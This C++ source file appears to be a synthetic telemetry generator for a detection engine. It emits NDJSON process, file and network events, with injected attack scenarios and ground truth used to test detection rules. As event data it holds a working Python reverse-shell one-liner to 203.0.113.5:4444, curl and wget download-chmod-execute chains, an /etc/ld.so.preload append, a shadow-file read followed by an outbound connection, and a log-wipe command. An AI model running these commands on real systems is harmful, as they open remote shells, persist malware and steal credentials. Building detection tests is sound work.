#include "gen/generator.h"

#include <unistd.h>

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <iterator>
#include <random>
#include <span>

#include <fmt/format.h>

#include "event/event_writer.h"
#include "event/file_io.h"
#include "event/ndjson.h"
#include "event/timestamp.h"

namespace kestrel::gen {
namespace {

constexpr int64_t kUs = 1'000;

// Draws with our own arithmetic so that the stream is the same with every standard library.
class Rng {
 public:
  explicit Rng(uint64_t seed) : engine_(seed) {}
  uint64_t Next() { return engine_(); }
  uint64_t Below(uint64_t n) { return n == 0 ? 0 : Next() % n; }
  bool Chance(double p) { return Unit() < p; }
  double Unit() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }
  // An exponential gap with mean `mean`, at least `floor`.
  int64_t Gap(int64_t mean, int64_t floor) {
    double u = 1.0 - Unit();  // (0, 1]
    return std::max(floor, static_cast<int64_t>(-std::log(u) * static_cast<double>(mean)));
  }
  template <typename T, size_t N>
  const T& Pick(const T (&items)[N]) {
    return items[Below(N)];
  }

 private:
  std::mt19937_64 engine_;
};

struct Proc {
  int64_t pid = 0;
  std::string entity_id;
  std::string name;
  std::string executable;
  std::vector<std::string> args;
  std::string cwd = "/";
  std::string user_id = "0";
  std::string user_name = "root";
  // The parent as it was when this process was forked.
  int64_t ppid = 0;
  std::string parent_entity_id;
  std::string parent_name;
  std::string parent_executable;
  std::vector<std::string> parent_args;
};

struct Host {
  std::string id;
  std::string name;
  int64_t next_pid = 3000;
  uint64_t next_start = 1;
  Proc systemd, sshd, cron, nginx, app;
  std::vector<Proc> sessions;  // login shells (bash), replaced as users log in and out
};

std::string_view BaseName(std::string_view path) { return path.substr(path.rfind('/') + 1); }

std::string CommandLine(const std::vector<std::string>& args) {
  std::string out;
  for (const std::string& a : args) {
    if (!out.empty()) out.push_back(' ');
    out += a;
  }
  return out;
}

void AppendArgs(std::string& out, const std::vector<std::string>& args) {
  out.push_back('[');
  for (size_t i = 0; i < args.size(); ++i) {
    if (i > 0) out.push_back(',');
    AppendJsonString(out, args[i]);
  }
  out.push_back(']');
}

// What an event says besides its process: category, types, action and the extra objects.
struct What {
  std::string_view category;
  std::string_view types;  // the JSON array's contents, e.g. R"("start")"
  std::string_view action;
  std::string extra;       // ,"file":{...} and such, or empty
};

// Builds the scripted activities: each is the list of its events' bodies (everything after
// `"event":{"sequence":N,"id":"...",`), rendered when the activity starts.
class World {
 public:
  World(const Options& options, Rng& rng) : options_(options), rng_(rng) {
    for (uint32_t i = 0; i < std::max<uint32_t>(options.hosts, 1); ++i) hosts_.push_back(MakeHost(i));
  }

  Host& AnyHost() { return hosts_[rng_.Below(hosts_.size())]; }

  // --- building blocks ---

  Proc Fork(Host& h, const Proc& parent) {
    Proc child = parent;
    child.pid = h.next_pid++;
    if (h.next_pid > 4'000'000) h.next_pid = 3000;
    child.entity_id = EntityId(h, child.pid);
    child.ppid = parent.pid;
    child.parent_entity_id = parent.entity_id;
    child.parent_name = parent.name;
    child.parent_executable = parent.executable;
    child.parent_args = parent.args;
    return child;
  }
  static void Exec(Proc& p, std::string executable, std::vector<std::string> args) {
    p.name = std::string(BaseName(executable));
    p.executable = std::move(executable);
    p.args = std::move(args);
  }

  std::string Body(const Host& h, const Proc& p, const What& what) const {
    std::string out;
    out.reserve(640 + what.extra.size());
    fmt::format_to(std::back_inserter(out), R"("kind":"event","category":["{}"],"type":[{}],"action":"{}"}},)",
                   what.category, what.types, what.action);
    fmt::format_to(std::back_inserter(out), R"("host":{{"id":"{}","name":"{}","hostname":"{}","os":{{"type":"linux"}}}},)",
                   h.id, h.name, h.name);
    fmt::format_to(std::back_inserter(out), R"("process":{{"pid":{},"entity_id":"{}","name":)", p.pid, p.entity_id);
    AppendJsonString(out, p.name);
    out += R"(,"executable":)";
    AppendJsonString(out, p.executable);
    out += R"(,"args":)";
    AppendArgs(out, p.args);
    fmt::format_to(std::back_inserter(out), R"(,"args_count":{},"command_line":)", p.args.size());
    AppendJsonString(out, CommandLine(p.args));
    out += R"(,"working_directory":)";
    AppendJsonString(out, p.cwd);
    if (p.ppid != 0) {
      fmt::format_to(std::back_inserter(out), R"(,"parent":{{"pid":{},"entity_id":"{}","name":)", p.ppid,
                     p.parent_entity_id);
      AppendJsonString(out, p.parent_name);
      out += R"(,"executable":)";
      AppendJsonString(out, p.parent_executable);
      out += R"(,"args":)";
      AppendArgs(out, p.parent_args);
      out += R"(,"command_line":)";
      AppendJsonString(out, CommandLine(p.parent_args));
      out.push_back('}');
    }
    out += R"(},"user":{"id":)";
    AppendJsonString(out, p.user_id);
    out += R"(,"name":)";
    AppendJsonString(out, p.user_name);
    out.push_back('}');
    out += what.extra;
    out += "}\n";
    return out;
  }

  static What ForkEvent() { return {"process", R"("start")", "fork", {}}; }
  static What ExecEvent() { return {"process", R"("start")", "exec", {}}; }
  static What EndEvent() { return {"process", R"("end")", "end", R"(,"process_exit":{"code":0})"}; }
  static What FileEvent(std::string_view action, std::string_view path, std::string_view extra = {}) {
    std::string_view types = action == "creation" ? R"("creation")"
                             : action == "open"   ? R"("access")"
                             : action == "deletion" ? R"("deletion")"
                                                    : R"("change")";
    std::string file = R"(,"file":{"path":)";
    AppendJsonString(file, path);
    file += R"(,"name":)";
    AppendJsonString(file, BaseName(path));
    size_t slash = path.rfind('/');
    if (slash != std::string_view::npos && slash > 0) {
      file += R"(,"directory":)";
      AppendJsonString(file, path.substr(0, slash));
    }
    file += extra;
    file.push_back('}');
    return {"file", types, action, std::move(file)};
  }
  static What Connect(std::string_view ip, int port) {
    return {"network", R"("connection","start")", "connection_attempted",
            fmt::format(R"(,"destination":{{"ip":"{}","port":{}}},"network":{{"transport":"tcp","direction":"egress","type":"ipv4"}})",
                        ip, port)};
  }
  static What Accept(std::string_view ip, int port) {
    return {"network", R"("connection","start")", "connection_accepted",
            fmt::format(R"(,"source":{{"ip":"{}","port":{}}},"network":{{"transport":"tcp","direction":"ingress","type":"ipv4"}})",
                        ip, port)};
  }

  // A child of `parent` that execs `argv` (argv[0] is the executable's path), does `then`
  // (events of the new program) and exits.
  template <typename Then>
  void Run(std::vector<std::string>& out, Host& h, const Proc& parent, std::vector<std::string> argv, Then then) {
    Proc child = Fork(h, parent);
    out.push_back(Body(h, child, ForkEvent()));
    std::string exe = argv[0];
    argv[0] = std::string(BaseName(exe));
    Exec(child, std::move(exe), std::move(argv));
    out.push_back(Body(h, child, ExecEvent()));
    then(child);
    out.push_back(Body(h, child, EndEvent()));
  }
  void Run(std::vector<std::string>& out, Host& h, const Proc& parent, std::vector<std::string> argv) {
    Run(out, h, parent, std::move(argv), [](const Proc&) {});
  }

  Proc& Session(Host& h) { return h.sessions[rng_.Below(h.sessions.size())]; }
  std::string RandomIp(std::string_view prefix) {
    return fmt::format("{}.{}.{}", prefix, rng_.Below(250) + 1, rng_.Below(250) + 1);
  }
  uint64_t NextSerial() { return serial_++; }

  // --- background activity ---

  std::vector<std::string> Background() {
    Host& h = AnyHost();
    std::vector<std::string> out;
    uint64_t pick = rng_.Below(100);
    if (pick < 34) {
      ShellCommand(out, h);
    } else if (pick < 54) {
      WebRequest(out, h);
    } else if (pick < 70) {
      AppQuery(out, h);
    } else if (pick < 82) {
      Build(out, h);
    } else if (pick < 92) {
      CronJob(out, h);
    } else {
      Login(out, h);
    }
    return out;
  }

  void ShellCommand(std::vector<std::string>& out, Host& h) {
    const Proc& shell = Session(h);
    const std::string& home = shell.cwd;
    switch (rng_.Below(10)) {
      case 0: Run(out, h, shell, {"/usr/bin/ls", "-la"}); break;
      case 1:
        Run(out, h, shell, {"/usr/bin/git", "status"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", home + "/.git/HEAD")));
          out.push_back(Body(h, p, FileEvent("open", home + "/.git/index")));
        });
        break;
      case 2:
        Run(out, h, shell, {"/usr/bin/vim", "notes.md"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", "/usr/share/vim/vimrc")));
          out.push_back(Body(h, p, FileEvent("creation", home + "/.notes.md.swp")));
          out.push_back(Body(h, p, FileEvent("modification", home + "/notes.md")));
          out.push_back(Body(h, p, FileEvent("deletion", home + "/.notes.md.swp")));
        });
        break;
      case 3:
        Run(out, h, shell, {"/usr/bin/cat", "README.md"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("open", home + "/README.md"))); });
        break;
      case 4:
        Run(out, h, shell, {"/usr/bin/grep", "-rn", "TODO", "src"}, [&](const Proc& p) {
          for (const char* f : {"main.c", "util.c", "net.c"}) {
            out.push_back(Body(h, p, FileEvent("open", home + "/src/" + f)));
          }
        });
        break;
      case 5:
        Run(out, h, shell, {"/usr/bin/cp", "report.pdf", "backup/"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", home + "/report.pdf")));
          out.push_back(Body(h, p, FileEvent("creation", home + "/backup/report.pdf")));
        });
        break;
      case 6:
        Run(out, h, shell, {"/usr/bin/ssh", "-T", "git@github.com"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", home + "/.ssh/known_hosts")));
          out.push_back(Body(h, p, Connect("140.82.121.4", 22)));
        });
        break;
      case 7:
        Run(out, h, shell, {"/usr/bin/python3", "manage.py", "test"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", home + "/manage.py")));
          out.push_back(Body(h, p, FileEvent("open", home + "/app/settings.py")));
          out.push_back(Body(h, p, Connect("10.0.3.12", 5432)));
        });
        break;
      case 8:
        Run(out, h, shell, {"/usr/bin/tar", "-czf", "backup/src.tgz", "src"}, [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", home + "/src/main.c")));
          out.push_back(Body(h, p, FileEvent("creation", home + "/backup/src.tgz")));
        });
        break;
      default:
        Run(out, h, shell, {"/usr/bin/less", "/var/log/nginx/access.log"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("open", "/var/log/nginx/access.log"))); });
        break;
    }
  }

  void WebRequest(std::vector<std::string>& out, Host& h) {
    static constexpr std::string_view kPages[] = {"index.html", "about.html", "static/app.js", "static/site.css",
                                                  "img/logo.png"};
    out.push_back(Body(h, h.nginx, Accept(RandomIp("198.51"), 30000 + static_cast<int>(rng_.Below(30000)))));
    out.push_back(Body(h, h.nginx, FileEvent("open", fmt::format("/var/www/html/{}", rng_.Pick(kPages)))));
    if (rng_.Chance(0.3)) out.push_back(Body(h, h.nginx, Connect("127.0.0.1", 8000)));
  }

  void AppQuery(std::vector<std::string>& out, Host& h) {
    out.push_back(Body(h, h.app, Connect(fmt::format("10.0.3.{}", 10 + rng_.Below(4)), 5432)));
    if (rng_.Chance(0.5)) {
      out.push_back(Body(h, h.app, FileEvent("open", fmt::format("/srv/app/templates/page{}.html", rng_.Below(40)))));
    }
  }

  void Build(std::vector<std::string>& out, Host& h) {
    const Proc& shell = Session(h);
    Proc make = Fork(h, shell);
    out.push_back(Body(h, make, ForkEvent()));
    Exec(make, "/usr/bin/make", {"make", "-j2"});
    out.push_back(Body(h, make, ExecEvent()));
    out.push_back(Body(h, make, FileEvent("open", shell.cwd + "/Makefile")));
    for (uint64_t i = 0, n = 1 + rng_.Below(3); i < n; ++i) {
      std::string unit = fmt::format("unit{}", rng_.Below(50));
      Run(out, h, make, {"/usr/bin/gcc", "-O2", "-c", "src/" + unit + ".c", "-o", "build/" + unit + ".o"},
          [&](const Proc& p) {
            out.push_back(Body(h, p, FileEvent("open", shell.cwd + "/src/" + unit + ".c")));
            out.push_back(Body(h, p, FileEvent("creation", shell.cwd + "/build/" + unit + ".o")));
          });
    }
    out.push_back(Body(h, make, EndEvent()));
  }

  void CronJob(std::vector<std::string>& out, Host& h) {
    Proc sh = Fork(h, h.cron);
    out.push_back(Body(h, sh, ForkEvent()));
    Exec(sh, "/bin/sh", {"/bin/sh", "-c", "/usr/local/bin/backup-etc"});
    out.push_back(Body(h, sh, ExecEvent()));
    uint64_t serial = NextSerial();
    Run(out, h, sh, {"/usr/bin/tar", "-czf", fmt::format("/var/backups/etc-{}.tgz", serial), "/etc/nginx"},
        [&](const Proc& p) {
          out.push_back(Body(h, p, FileEvent("open", "/etc/nginx/nginx.conf")));
          out.push_back(Body(h, p, FileEvent("creation", fmt::format("/var/backups/etc-{}.tgz", serial))));
        });
    out.push_back(Body(h, sh, EndEvent()));
  }

  void Login(std::vector<std::string>& out, Host& h) {
    out.push_back(Body(h, h.sshd, Accept(RandomIp("203.0"), 40000 + static_cast<int>(rng_.Below(20000)))));
    Proc session = Fork(h, h.sshd);
    out.push_back(Body(h, session, ForkEvent()));
    out.push_back(Body(h, session, FileEvent("open", "/etc/passwd")));
    out.push_back(Body(h, session, FileEvent("open", "/etc/shadow")));
    Proc shell = Fork(h, session);
    out.push_back(Body(h, shell, ForkEvent()));
    shell.user_id = "1000";
    shell.user_name = "alice";
    shell.cwd = "/home/alice";
    Exec(shell, "/usr/bin/bash", {"-bash"});
    shell.name = "bash";
    out.push_back(Body(h, shell, ExecEvent()));
    Proc& replaced = Session(h);
    out.push_back(Body(h, replaced, EndEvent()));
    replaced = std::move(shell);
  }

  // --- adversarial activity: state that grows, and events that almost match ---

  std::vector<std::string> Adversarial() {
    Host& h = AnyHost();
    std::vector<std::string> out;
    uint64_t key = rng_.Below(std::max<uint64_t>(options_.keys, 1));
    uint64_t pick = rng_.Below(100);
    if (pick < 22) {
      // download-then-execute's first stage, joined by host and file name: never executed.
      Proc curl = Adversary(h, fmt::format("adv-dl-{}", key), "/usr/bin/curl", {"curl", "-o", "/tmp/dl/f", "x"});
      out.push_back(Body(h, curl, FileEvent("creation", fmt::format("/tmp/dl/f{}", key))));
    } else if (pick < 40) {
      // credential-file-read-then-connect's first stage, by entity id: this process never connects.
      Proc reader = Adversary(h, fmt::format("adv-cred-{}", key), "/usr/local/bin/agent", {"agent"});
      out.push_back(Body(h, reader, FileEvent("open", fmt::format("/home/u{}/.ssh/id_ed25519", key % 512))));
    } else if (pick < 55) {
      // memfd-create-then-exec's first stage: never followed by the exec.
      Proc worker = Adversary(h, fmt::format("adv-memfd-{}", key), "/usr/local/bin/worker", {"worker"});
      out.push_back(Body(h, worker, {"process", R"("creation")", "memfd_create", R"(,"file":{"name":"jit"})"}));
    } else if (pick < 65) {
      // The discovery burst's first runs under a new parent each time, never five.
      Proc parent = Fork(h, Session(h));
      out.push_back(Body(h, parent, ForkEvent()));
      static constexpr std::string_view kCommands[] = {"/usr/bin/id", "/usr/bin/uname", "/usr/bin/hostname",
                                                       "/usr/bin/whoami"};
      for (uint64_t i = 0, n = 1 + rng_.Below(4); i < n; ++i) Run(out, h, parent, {std::string(kCommands[i])});
      out.push_back(Body(h, parent, EndEvent()));
    } else if (pick < 75) {
      // A deep fork chain, then every process exits: the lineage table's worst case.
      std::vector<Proc> chain{Session(h)};
      for (uint64_t i = 0, depth = 20 + rng_.Below(200); i < depth; ++i) {
        chain.push_back(Fork(h, chain.back()));
        out.push_back(Body(h, chain.back(), ForkEvent()));
      }
      for (size_t i = chain.size() - 1; i > 0; --i) out.push_back(Body(h, chain[i], EndEvent()));
    } else if (pick < 85) {
      // A huge command line with non-ASCII words, and files with non-ASCII names.
      std::vector<std::string> argv{"/usr/bin/python3", "-m", "tool"};
      for (uint64_t i = 0, n = 50 + rng_.Below(250); i < n; ++i) argv.push_back(fmt::format("--opción-{}=数据-{}", i, key));
      Run(out, h, Session(h), std::move(argv), [&](const Proc& p) {
        out.push_back(Body(h, p, FileEvent("creation", fmt::format("/home/alice/出力/ファイル-{}.txt", key))));
      });
    } else {
      NearMiss(out, h, key);
    }
    return out;
  }

  // A process of the adversarial activity whose identity comes from `entity_id` alone.
  Proc Adversary(Host& h, std::string entity_id, std::string executable, std::vector<std::string> args) {
    Proc p = Fork(h, Session(h));
    p.entity_id = std::move(entity_id);
    Exec(p, std::move(executable), std::move(args));
    return p;
  }

  // Events one character or one condition away from a bundled rule.
  void NearMiss(std::vector<std::string>& out, Host& h, uint64_t key) {
    const Proc& shell = Session(h);
    switch (rng_.Below(6)) {
      case 0: Run(out, h, shell, {fmt::format("/tmpx/build-{}/run", key)}); break;  // not /tmp/*
      case 1:
        Run(out, h, shell, {"/usr/bin/cat", "/etc/shadow.bak"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("open", "/etc/shadow.bak"))); });
        break;
      case 2:
        Run(out, h, shell, {"/usr/bin/curl", "-o", "/var/cache/x", "https://example.com/x"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("creation", fmt::format("/var/cache/dl-{}", key)))); });
        break;
      case 3: Run(out, h, shell, {"/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"}); break;
      case 4: Run(out, h, shell, {"/usr/bin/journalctl", "--since", "1 hour ago"}); break;
      default:
        Run(out, h, shell, {"/usr/bin/tee", "/etc/ld.so.preload.d"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("creation", "/etc/ld.so.preload.d"))); });
        break;
    }
  }

  // --- attacks ---

  // A shell script run from `parent` (bash PATH, forked and exec'd) doing `then`, then exiting.
  template <typename Then>
  void Script(std::vector<std::string>& out, Host& h, const Proc& parent, const std::string& path, Then then) {
    Proc script = Fork(h, parent);
    out.push_back(Body(h, script, ForkEvent()));
    Exec(script, "/usr/bin/bash", {"bash", path});
    out.push_back(Body(h, script, ExecEvent()));
    then(script);
    out.push_back(Body(h, script, EndEvent()));
  }

  // A payload fetched from `server` port 80 by `fetch` (curl, wget) into `payload`, then made
  // executable by `chmod MODE payload` (the event's mode is 755 either way).
  void Drop(std::vector<std::string>& out, Host& h, const Proc& shell, std::vector<std::string> fetch,
            std::string_view server, const std::string& payload, std::string_view mode) {
    Run(out, h, shell, std::move(fetch), [&](const Proc& p) {
      out.push_back(Body(h, p, Connect(server, 80)));
      out.push_back(Body(h, p, FileEvent("creation", payload)));
    });
    Run(out, h, shell, {"/usr/bin/chmod", std::string(mode), payload},
        [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("attributes_modified", payload, R"(,"mode":"755")"))); });
  }


  // The events of scenario number `scenario` of Scenarios() (the cases below are in its order;
  // e2e.gen checks that each fires exactly the rules listed there).
  std::vector<std::string> Attack(size_t scenario, Host& h) {
    std::vector<std::string> out;
    uint64_t n = NextSerial();
    Proc& shell = Session(h);
    switch (scenario) {
      case 0: {  // download-and-execute
        std::string payload = fmt::format("/tmp/upd-{}", n);
        Drop(out, h, shell, {"/usr/bin/curl", "-fsSL", "-o", payload, "http://203.0.113.7/upd"}, "203.0.113.7", payload,
             "+x");
        Run(out, h, shell, {payload}, [&](const Proc& p) { out.push_back(Body(h, p, Connect("203.0.113.7", 8443))); });
        break;
      }
      case 1:  // credential-theft, from a script of its own (its children are the only siblings)
        Script(out, h, shell, "/home/alice/.cache/sync.sh", [&](const Proc& script) {
          Run(out, h, script, {"/usr/bin/python3", "/home/alice/.cache/sync.py"}, [&](const Proc& p) {
            out.push_back(Body(h, p, FileEvent("open", "/etc/shadow")));
            out.push_back(Body(h, p, Connect("203.0.113.9", 443)));
          });
        });
        break;
      case 2:  // reverse-shell one-liner from the web application
        Run(out, h, h.app,
            {"/usr/bin/python3", "-c",
             R"(import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));)"
             R"(os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"]))"},
            [&](const Proc& p) { out.push_back(Body(h, p, Connect("203.0.113.5", 4444))); });
        break;
      case 3:  // discovery-burst: a script runs five discovery commands
        Script(out, h, shell, "/home/alice/.cache/recon.sh", [&](const Proc& script) {
          for (const char* exe : {"/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/hostname", "/usr/bin/ps"}) {
            std::vector<std::string> argv{exe};
            if (BaseName(exe) == "uname") argv.emplace_back("-a");
            if (BaseName(exe) == "ps") argv.emplace_back("aux");
            Run(out, h, script, std::move(argv));
          }
        });
        break;
      case 4: {  // dev-shm-dropper
        std::string payload = fmt::format("/dev/shm/kx-{}", n);
        Drop(out, h, shell, {"/usr/bin/wget", "-q", "-O", payload, "http://203.0.113.8/kx"}, "203.0.113.8", payload, "755");
        Run(out, h, shell, {payload});
        break;
      }
      case 5:  // ld-preload-hijack
        Run(out, h, shell, {"/usr/bin/sh", "-c", "echo /usr/lib/x86_64-linux-gnu/libsys.so >> /etc/ld.so.preload"},
            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("creation", "/etc/ld.so.preload"))); });
        break;
      case 6:  // log-wipe
        Run(out, h, shell, {"/usr/bin/journalctl", "--vacuum-time=1s"});
        break;
      default: {  // fileless-memfd
        Run(out, h, shell, {"/usr/bin/python3", "/home/alice/.local/loader.py"}, [&](Proc& p) {
          out.push_back(Body(h, p, {"process", R"("creation")", "memfd_create", R"(,"file":{"name":"x"})"}));
          Exec(p, "/proc/self/fd/3", {"[kworker/0:1]"});
          out.push_back(Body(h, p, ExecEvent()));
        });
        break;
      }
    }
    return out;
  }

 private:
  std::string EntityId(Host& h, int64_t pid) { return fmt::format("{}-{}-{}", h.name, pid, h.next_start++); }

  Host MakeHost(uint32_t index) {
    Host h;
    h.id = fmt::format("{:016x}", 0x6b657374726c0000ULL + index * 0x1000193ULL + options_.seed * 0x9e3779b9ULL);
    h.name = fmt::format("web-{:02d}", index + 1);
    auto daemon = [&](int64_t pid, const Proc* parent, std::string exe, std::vector<std::string> args) {
      Proc p;
      if (parent != nullptr) p = Fork(h, *parent);
      p.pid = pid;
      p.entity_id = EntityId(h, pid);
      Exec(p, std::move(exe), std::move(args));
      return p;
    };
    h.systemd = daemon(1, nullptr, "/usr/lib/systemd/systemd", {"/sbin/init"});
    h.systemd.name = "systemd";
    h.sshd = daemon(612, &h.systemd, "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"});
    h.cron = daemon(640, &h.systemd, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"});
    h.nginx = daemon(811, &h.systemd, "/usr/sbin/nginx", {"nginx: worker process"});
    h.nginx.user_id = "33";
    h.nginx.user_name = "www-data";
    h.app = daemon(902, &h.systemd, "/usr/bin/python3", {"/srv/app/venv/bin/python3", "-m", "gunicorn", "app:wsgi"});
    h.app.cwd = "/srv/app";
    h.app.user_id = "998";
    h.app.user_name = "app";
    for (int i = 0; i < 3; ++i) {
      Proc login = daemon(1400 + i, &h.sshd, "/usr/sbin/sshd", {"sshd: alice@pts/" + std::to_string(i)});
      Proc shell = daemon(1500 + i, &login, "/usr/bin/bash", {"-bash"});
      shell.name = "bash";
      shell.cwd = "/home/alice";
      shell.user_id = "1000";
      shell.user_name = "alice";
      h.sessions.push_back(std::move(shell));
    }
    return h;
  }

  const Options& options_;
  Rng& rng_;
  std::vector<Host> hosts_;
  uint64_t serial_ = 1;
};

struct Activity {
  std::vector<std::string> bodies;
  size_t next = 0;
  int64_t injection = -1;  // index into State::injections, for an attack
  size_t left() const { return bodies.size() - next; }
};

}  // namespace

const std::vector<Scenario>& Scenarios() {
  static const std::vector<Scenario> kScenarios = {
      {"download-and-execute",
       {"linux-download-then-execute", "linux-exec-from-tmp", "linux-writable-dir-binary-connects-out"},
       "curl writes /tmp/upd-N, chmod +x, run it, it connects out"},
      {"credential-theft",
       {"linux-shadow-file-read-unusual-process", "linux-credential-file-read-then-connect",
        "linux-credential-file-read-then-sibling-connect"},
       "a python script reads /etc/shadow and connects out"},
      {"reverse-shell", {"linux-interpreter-socket-one-liner"},
       "the web application runs a python socket one-liner that spawns /bin/sh"},
      {"discovery-burst", {"linux-discovery-command-burst"}, "a script runs whoami, id, uname, hostname and ps"},
      {"dev-shm-dropper",
       {"linux-dev-shm-download-chmod-exec", "linux-download-then-execute", "linux-exec-from-dev-shm"},
       "wget writes /dev/shm/kx-N, chmod 755, run it"},
      {"ld-preload-hijack", {"linux-ld-so-preload-modified"}, "a shell appends a library to /etc/ld.so.preload"},
      {"log-wipe", {"linux-log-clearing-utility"}, "journalctl --vacuum-time=1s"},
      {"fileless-memfd", {"linux-memfd-create-then-exec", "linux-argv0-masquerading"},
       "a python loader creates a memfd and executes it as [kworker/0:1]"},
  };
  return kScenarios;
}

Result<Profile> ParseProfile(std::string_view name) {
  if (name == "realistic") return Profile::kRealistic;
  if (name == "adversarial") return Profile::kAdversarial;
  return MakeError(ErrorCode::kInvalidArgument,
                   fmt::format("unknown profile '{}' (expected realistic or adversarial)", name));
}

std::string_view ProfileName(Profile profile) {
  return profile == Profile::kRealistic ? "realistic" : "adversarial";
}

struct Generator::State {
  explicit State(const Options& o) : options(o), rng(o.seed), world(options, rng), now_ns(o.start_ns) {
    ScheduleAttack();
  }

  void ScheduleAttack() {
    next_attack = options.attack_every == 0 ? UINT64_MAX
                                            : produced + options.attack_every / 2 + rng.Below(options.attack_every + 1);
  }

  bool Next(std::string& out) {
    if (produced >= options.events) return false;
    const uint64_t remaining = options.events - produced;
    if (produced >= next_attack) {
      size_t scenario = rng.Below(Scenarios().size());
      Host& host = world.AnyHost();
      Activity attack{world.Attack(scenario, host)};
      if (attack.bodies.size() + attack_events_left <= remaining) {
        attack.injection = static_cast<int64_t>(injections.size());
        const Scenario& s = Scenarios()[scenario];
        injections.push_back({std::string(s.name), {s.rules.begin(), s.rules.end()}, {}, host.id});
        attack_events_left += attack.bodies.size();
        active.push_back(std::move(attack));
      }
      ScheduleAttack();
    }
    const size_t target = options.profile == Profile::kRealistic ? 4 + options.hosts : 16;
    while (active.size() < target) {
      bool adversarial = options.profile == Profile::kAdversarial && rng.Chance(0.7);
      active.push_back({adversarial ? world.Adversarial() : world.Background()});
    }
    // Attacks are never cut off by the end of the stream: when what is left is theirs, only
    // they go on.
    size_t at = rng.Below(active.size());
    if (remaining <= attack_events_left) {
      while (active[at].injection < 0) at = (at + 1) % active.size();
    }
    Activity& activity = active[at];
    now_ns += options.profile == Profile::kRealistic ? rng.Gap(400 * kUs, 2 * kUs) : rng.Gap(20 * kUs, 1 * kUs);
    out += R"({"@timestamp":")";
    AppendTimestamp(out, now_ns);
    fmt::format_to(std::back_inserter(out), R"(","event":{{"sequence":{},"id":"{}-{}",)", produced, options.seed, produced);
    out += activity.bodies[activity.next++];
    if (activity.injection >= 0) {
      injections[static_cast<size_t>(activity.injection)].positions.push_back(produced);
      --attack_events_left;
    }
    ++produced;
    if (activity.left() == 0) {
      std::swap(activity, active.back());
      active.pop_back();
    }
    return true;
  }

  Options options;
  Rng rng;
  World world;
  int64_t now_ns;
  uint64_t produced = 0;
  uint64_t next_attack = 0;
  uint64_t attack_events_left = 0;
  std::vector<Activity> active;
  std::vector<Injection> injections;
};

Generator::Generator(const Options& options) : state_(std::make_unique<State>(options)) {}
Generator::~Generator() = default;
bool Generator::Next(std::string& out) { return state_->Next(out); }
uint64_t Generator::produced() const { return state_->produced; }
const std::vector<Injection>& Generator::injections() const { return state_->injections; }

std::string InjectionJson(const Injection& injection) {
  std::string out = R"({"scenario":)";
  AppendJsonString(out, injection.scenario);
  out += R"(,"rules":)";
  AppendArgs(out, injection.rules);
  out += R"(,"positions":[)";
  for (size_t i = 0; i < injection.positions.size(); ++i) {
    if (i > 0) out.push_back(',');
    out += std::to_string(injection.positions[i]);
  }
  out += R"(],"host_id":)";
  AppendJsonString(out, injection.host_id);
  out.push_back('}');
  return out;
}

namespace {

Status WriteNdjson(Generator& generator, OutputFile& out) {
  std::string chunk;
  while (generator.Next(chunk)) {
    if (chunk.size() >= (1U << 20)) {
      KESTREL_TRY(out.Write(chunk));
      chunk.clear();
    }
  }
  KESTREL_TRY(out.Write(chunk));
  return out.Close();
}

}  // namespace

Status WriteStream(const Options& options, const std::string& output, const std::string& truth) {
  Generator generator(options);
  const bool klog = output.ends_with(".klog") || output.ends_with(".klog.zst");
  if (!klog) {
    KESTREL_ASSIGN_OR_RETURN(auto out, OutputFile::Open(output));
    KESTREL_TRY(WriteNdjson(generator, *out));
  } else {
    // Through a temporary NDJSON file next to the output, decoded as `kestrel convert` would.
    std::string ndjson = fmt::format("{}.{}.ndjson.tmp", output, ::getpid());
    Status written = [&]() -> Status {
      KESTREL_ASSIGN_OR_RETURN(auto out, OutputFile::Open(ndjson));
      KESTREL_TRY(WriteNdjson(generator, *out));
      WriteOptions write_options;
      if (output.ends_with(".zst")) write_options.compression = Compression::kZstd;
      return ConvertToKlog(ndjson, output, write_options);
    }();
    std::remove(ndjson.c_str());
    KESTREL_TRY(written);
  }
  if (truth.empty()) return {};
  KESTREL_ASSIGN_OR_RETURN(auto out, OutputFile::Open(truth));
  std::string text;
  for (const Injection& injection : generator.injections()) {
    text += InjectionJson(injection);
    text.push_back('\n');
  }
  KESTREL_TRY(out->Write(text));
  return out->Close();
}

}  // namespace kestrel::gen
